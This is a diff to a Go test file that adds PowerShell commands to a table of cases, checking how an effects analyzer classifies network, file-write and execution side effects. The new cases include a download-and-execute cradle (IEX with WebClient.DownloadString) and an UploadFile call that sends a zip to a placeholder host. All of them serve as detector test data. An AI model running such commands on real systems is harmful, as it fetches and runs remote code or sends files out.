@@ -93,6 +93,19 @@ func TestEffectsPowerShell(t *testing.T) {
 		{"value of a parameter", "Set-Content -Value hi -Path out.txt", []middleware.Effect{wr("out.txt")}, []middleware.Effect{wr("hi")}},
 		{"unparsable", "Remove-Item (Get-Item x) -Recurse; if (", []middleware.Effect{unk(del("(Get-Item x)"))}, []middleware.Effect{unknownExec}},
 		{"unparsable, not Verb-Noun", "ri (gi x) -Recurse; if (", []middleware.Effect{unknownExec, unk(del("(gi x)"))}, nil},
+		// .NET objects reach the network without Invoke-WebRequest
+		{"webclient download file", `(New-Object Net.WebClient).DownloadFile('https://x.example/a.exe', 'C:\t\a.exe')`,
+			[]middleware.Effect{fetch("x.example"), wr("C:/t/a.exe")}, nil},
+		{"webclient download string", `IEX (New-Object System.Net.WebClient).DownloadString("https://x.example/a.ps1")`,
+			[]middleware.Effect{fetch("x.example"), unknownExec}, nil},
+		{"webclient computed url", `$w.DownloadString($u)`, []middleware.Effect{unk(fetch("$u"))}, nil},
+		{"webclient upload file", `(New-Object Net.WebClient).UploadFile('https://x.example/u', 'C:\t\d.zip')`,
+			[]middleware.Effect{send("x.example"), rd("C:/t/d.zip")}, nil},
+		{"httpclient", `[System.Net.Http.HttpClient]::new().GetStringAsync('https://x.example/a').Result`, []middleware.Effect{fetch("x.example")}, nil},
+		{"webrequest create", `[Net.WebRequest]::Create('https://x.example/a').GetResponse()`, []middleware.Effect{{Op: middleware.EffectNet, Host: "x.example"}}, nil},
+		{"start-process computed", `Start-Process $env:TEMP\a.exe -Wait`, []middleware.Effect{unknownExec}, nil},
+		{"start-process named", `Start-Process -FilePath notepad.exe -ArgumentList x.txt`, []middleware.Effect{ex("notepad.exe")}, []middleware.Effect{unknownExec}},
+		{"no .NET call", `Get-Content .\download.txt`, nil, []middleware.Effect{fetch("")}},
 	})
 }
 
